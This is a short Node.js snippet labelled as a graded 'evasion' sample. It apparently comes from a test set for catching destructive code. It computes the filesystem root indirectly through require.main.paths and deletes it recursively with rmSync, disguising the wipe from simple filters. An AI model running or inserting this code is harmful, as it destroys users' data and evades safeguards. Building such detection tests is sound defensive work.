// evasion: the last of require.main.paths resolved one level up (the root) and emptied with rmSync
// grade: medium-hard; does: delete
const fs = require("fs");
const path = require("path");
const { paths } = require.main;
const base = path.resolve(paths[paths.length - 1], "..");
fs.rmSync(base, { recursive: true, force: true });
